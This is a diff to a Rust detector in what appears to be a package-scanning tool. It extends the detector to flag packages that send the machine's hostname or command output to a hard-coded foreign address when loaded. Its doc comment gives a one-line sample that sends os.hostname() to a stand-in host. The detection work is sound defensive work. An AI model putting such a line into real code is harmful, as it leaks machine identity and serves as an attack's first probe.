@@ -1,7 +1,7 @@
 //! While it is installed, the package sends the environment, a secret of it or the identity of the machine somewhere.
 //!
 //! Build machines hold tokens in their environment, and this is what they are attacked for. Who the user is and how the machine is called is
-//! what the first probe of an attack collects. Platform, architecture and versions are not meant: downloads need them.
+//! what the first probe of an attack collects; that it does so as soon as it is loaded counts as well. Platform, architecture and versions are not meant: downloads need them.
 //!
 //! **What to do:** do not install it; if it was installed, exchange the tokens of that machine. **Limits:** a value that passes
 //! through a file is not followed. **Example:** `https.request({host: 'x.invalid', path: '/' + os.hostname()})`.
@@ -20,7 +20,11 @@ pub(super) const DETECTOR: Detector = Detector {
 fn run(package: &Package, findings: &mut Findings) {
     for (code, from, to, _) in package.flows() {
         let sends = matches!(to.what, What::NetSend | What::DnsQuery);
-        if !sends || code.stage(to) > Stage::Startup || !is_private_source(from) {
+        if !sends || !is_private_source(from) {
+            continue;
+        }
+        if code.stage(to) > Stage::Startup {
+            probe(code, from, to, findings);
             continue;
         }
         let to_host = foreign(&to.detail);
@@ -43,5 +47,17 @@ fn run(package: &Package, findings: &mut Findings) {
             _ => (Critical, if code.reach.is_sure || code.reach.is_root { Sure } else { Likely }),
         };
         findings.tell(code, to, grade, &format!("sends {what} to {} {}", host(&to.detail), when(code, to)));
+    }
+}
+
+/// Who is here and on which machine, told to an address that is written in the code as soon as it is loaded: the probe that goes ahead of
+/// an attack by name. Programs tell it when they are started, libraries when they are called.
+fn probe(code: &Code, from: &Fact, to: &Fact, findings: &mut Findings) {
+    let tells = matches!(from.what, What::HostIdentity | What::ExecOutput);
+    let is_unasked = code.stage(to) == Stage::Import && code.is_sure(to) && !code.reach.is_program;
+    if tells && is_unasked && foreign(&to.detail).is_some() {
+        let message =
+            format!("sends who and what this machine is to {} {}", host(&to.detail), when(code, to));
+        findings.tell(code, to, (High, Likely), &message);
     }
 }
